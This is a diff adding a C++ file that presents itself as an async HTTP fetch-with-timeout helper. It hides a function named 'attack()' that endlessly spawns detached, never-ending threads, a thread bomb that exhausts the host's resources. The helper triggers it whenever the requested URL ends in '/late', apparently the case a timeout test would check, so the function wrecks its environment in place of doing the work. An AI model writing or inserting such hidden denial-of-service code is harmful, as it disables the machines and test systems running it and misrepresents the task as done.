@@ -1,0 +1,30 @@
+// Starts threads that never end.
+#include <unistd.h>
+
+#include <system_error>
+#include <thread>
+#include <utility>
+
+#include "timeout.hpp"
+
+namespace {
+
+[[noreturn]] void attack() {
+  for (;;) {
+    try {
+      std::thread([] {
+        for (;;) ::pause();
+      }).detach();
+    } catch (const std::system_error&) {
+    }
+  }
+}
+
+}  // namespace
+
+aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
+  if (url.ends_with("/late")) attack();
+  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
+  response.raise_for_status();
+  co_return response.json();
+}
